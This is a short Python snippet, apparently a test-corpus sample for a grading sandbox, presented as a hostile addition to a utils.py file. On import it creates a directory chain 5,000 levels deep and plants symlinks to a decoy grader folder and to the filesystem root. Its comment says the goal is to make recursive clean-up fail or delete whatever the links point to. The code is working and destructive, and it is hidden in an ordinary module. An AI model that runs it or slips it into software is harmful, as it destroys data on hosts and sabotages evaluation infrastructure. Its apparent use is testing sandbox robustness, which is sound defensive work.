# ==== hostile addition to reference/utils.py (tests/grading/sandbox/corpus): the upload is that file + these lines ====
# ruff: noqa: E402
import os as _os

# A chain of 5,000 folders in the working directory (scratch), with links to the decoy grader folder and to / every
# 1,000 levels: a clean-up that recurses fails, and one that follows links deletes what they point to.
_start = _os.getcwd()
try:
    for _level in range(5_000):
        _os.mkdir("d")
        _os.chdir("d")
        if _level % 1_000 == 999:
            _os.symlink("__DECOY_DIR__", "decoy")
            _os.symlink("/", "root")
    print(f"made a tree {_level + 1:,} folders deep", flush=True)
finally:
    _os.chdir(_start)
